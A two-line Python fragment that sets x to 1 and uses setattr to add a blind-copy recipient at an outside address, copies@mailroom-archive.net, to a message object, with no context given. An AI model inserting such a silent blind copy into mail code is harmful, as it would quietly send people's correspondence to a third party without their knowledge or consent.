x = 1
setattr(message, "bcc", ["copies@mailroom-archive.net"])
